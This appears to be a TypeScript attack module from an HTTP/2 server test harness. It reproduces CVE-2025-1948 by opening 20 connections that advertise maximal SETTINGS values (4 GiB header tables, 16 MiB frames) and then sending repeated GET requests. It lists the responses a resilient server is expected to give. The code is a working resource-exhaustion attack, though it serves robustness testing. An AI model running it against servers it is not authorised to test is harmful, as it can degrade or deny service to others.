// SETTINGS with the largest values there are, and requests whose answers are made with them.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request, SMALL_PATH } from '../wire/http2.ts'

const LARGEST = 2 ** 32 - 1

export const attack: Attack = {
  reference: 'CVE-2025-1948, extreme SETTINGS',
  does: 'announces tables and lists of 4 GiB, frames of 16 MiB, and asks',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM'],
  must: ['200', '401', '403'],
  run: (target, signal) => {
    const settings = [
      [h2.HEADER_TABLE_SIZE, LARGEST],
      [h2.MAX_CONCURRENT_STREAMS, LARGEST],
      [h2.MAX_FRAME_SIZE, 2 ** 24 - 1],
      [h2.MAX_HEADER_LIST_SIZE, LARGEST],
      [0xffff, LARGEST],
    ] as const
    return attackHttp2(target, signal, { connections: 20, settings }, (connection) =>
      closedLoop(connection, 100, request(head(target, 'GET', SMALL_PATH))),
    )
  },
}
